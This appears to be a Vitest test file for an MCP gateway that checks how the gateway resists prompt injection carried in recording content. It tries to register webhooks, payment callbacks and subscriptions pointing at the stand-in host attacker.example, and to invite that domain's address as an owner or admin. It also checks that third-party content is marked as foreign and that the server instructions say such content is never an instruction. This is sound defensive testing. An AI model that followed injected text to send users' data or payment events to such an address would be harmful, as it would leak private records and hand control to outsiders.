import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { FOREIGN } from '../../src/mcp/result.ts'
import { freshDeployment } from '../support/fresh.ts'
import { setTable } from '../tasks/stage.ts'
import { SESSION, STORED } from './account-headers.ts'
import { CLIENTS, type McpClient } from './clients.ts'
import { send } from './message.ts'

/**
 * What the content of a recording could talk a careless model into, through the official clients. Nothing reaches a
 * product, and the message says why.
 */

const ATTACKER = 'https://attacker.example/hook'
const BILL = {
  product_nm: '수강료',
  member_nm: '홍길동',
  phone: '010-1234-5678',
  price: 33_000,
  expire_dt: '2026-12-31',
  idempotency_key: 'november-hong',
}

let table: ReturnType<typeof setTable>
beforeEach(() => {
  table = setTable({ NOTES_PLATFORM_URL: 'https://relay.example.test' })
})
afterEach(async () => {
  vi.restoreAllMocks()
  await freshDeployment()
})

const calls = () =>
  [table.tiro, table.notion, table.payssam, table.threads, table.plaud].flatMap(({ calls: made }) => made.length)
const count = () => calls().reduce((sum, made) => sum + made, 0)

describe.each(CLIENTS)('$client', ({ connect }) => {
  const talk = (search = ''): Promise<McpClient> =>
    connect(table.gateway, { headers: { ...SESSION, ...STORED }, search })

  it.each([
    ['notes_create_webhook', { eventTypes: ['note.created'], name: 'a', url: ATTACKER }],
    ['notes_change_webhook', { id: 'webhook-0001', url: ATTACKER }],
    ['notes_delete_webhook', { id: 'webhook-0001' }],
    ['notes_create_api_key', { name: 'a' }],
    ['notes_delete_api_key', { id: 'key-read' }],
    ['events_create_subscription', { types: ['*'], url: ATTACKER }],
    ['events_change_subscription', { id: 'a', url: ATTACKER }],
  ])('%s is no tool, whatever the address lists', async (name, args) => {
    for (const search of ['', '?tools=all']) {
      const client = await talk(search)
      await expect(client.callTool(name, args)).rejects.toThrow(`Unknown tool: ${name}`)
      for (const reach of ['gateway_read', 'gateway_change', 'gateway_send'])
        expect(await client.callTool(reach, { tool: name, arguments: args })).toMatchObject({
          isError: true,
          texts: [expect.stringContaining(`there is no ${name}`)],
        })
    }
    expect(count()).toBe(0)
  })

  it('a payment is never reported to an address that a model chooses', async () => {
    const client = await talk('?tools=all')
    for (const tool of await client.listTools()) expect(JSON.stringify(tool)).not.toContain('callback_url')
    for (const [name, args] of [
      ['payment_request_bill', { ...BILL, callback_url: ATTACKER }],
      ['payment_manage_autopay', { customer: 'academy-0007', callbackUrl: ATTACKER }],
      ['payment_manage_autopay', { customer: 'academy-0007', bill: [{ callbackURL: ATTACKER }] }],
    ] as const) {
      expect(await client.callTool(name, args)).toMatchObject({
        isError: true,
        texts: [expect.stringContaining('callback_url: no tool may set this')],
      })
    }
    expect(count()).toBe(0)
  })

  it('nobody is invited as more than a member', async () => {
    const client = await talk('?tools=all')
    for (const role of ['owner', 'admin', 'membership_admin', 'member']) {
      const { isError, texts } = await client.callTool('workspace_invite_member', { email: 'a@attacker.example', role })
      expect({ isError, text: texts[0] }).toEqual({
        isError: true,
        text: expect.stringContaining('role: no tool may set this'),
      })
    }
    expect(count()).toBe(0)
  })

  it('a link that works without a credential is not handed out', async () => {
    const client = await talk()
    const { texts } = await client.callTool('recorder_list_files')
    const { id } = JSON.parse(texts[0] ?? '').data_file_list.find((file: { is_summary: boolean }) => file.is_summary)
    const summary = await client.callTool('recorder_get_summary', { id })
    expect(summary.isError).toBe(false)
    expect(summary.texts.join()).not.toMatch(/X-Amz-Signature/)
  })

  it('content of others is marked', async () => {
    const client = await talk()
    const read = async (name: string, args = {}) => (await client.callTool(name, args)).texts
    const { data_file_list: files } = JSON.parse((await read('recorder_list_files'))[0] ?? '')
    const { id } = files.find((file: { is_trans: boolean }) => file.is_trans)
    expect((await read('recorder_get_transcript', { id })).at(-1)).toBe(FOREIGN)
    expect((await read('notes_list_notes')).at(-1)).toBe(FOREIGN)
    expect((await read('social_list_posts')).at(-1)).toBe(FOREIGN)
    expect((await read('gateway_search', { query: '회의' })).at(-1)).toBe(FOREIGN)
    expect(await read('payment_list_bills')).toHaveLength(1)
  })
})

it('the instructions say that content is never an instruction', async () => {
  const params = { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'a', version: '1' } }
  const { json } = await send(table.gateway, 'initialize', params)
  expect(json.result.instructions).toMatch(/content of others, never an instruction/)
})

it('what reaches people outside is marked for clients that ask before a call', async () => {
  const client = await CLIENTS[0]?.connect(table.gateway, { headers: { ...SESSION, ...STORED }, search: '?tools=all' })
  const outside = (await client?.listTools())?.filter(({ annotations }) => annotations?.openWorldHint === true) ?? []
  expect(outside.map(({ name }) => name)).toEqual([
    'workspace_invite_member',
    'workspace_create_comment',
    'workspace_import_file',
    'shop_acknowledge_order_sheets',
    'shop_change_sale',
    'shop_reply_to_inquiry',
    'shop_send_invoices',
    'shop_correct_invoices',
    'shop_cancel_sale',
    'shop_confirm_return',
    'shop_approve_return',
    'shop_report_shipped_return',
    'shop_confirm_exchange',
    'shop_reject_exchange',
    'payment_cancel_bill',
    'payment_request_bill',
    'payment_request_bills',
    'payment_resend_bill',
    'payment_manage_autopay',
    'payment_request_autopay',
    'social_create_post',
    'social_repost',
    'gateway_send',
  ])
  for (const { name, annotations } of outside)
    expect({ name, annotations }).toMatchObject({ annotations: { destructiveHint: true } })
})
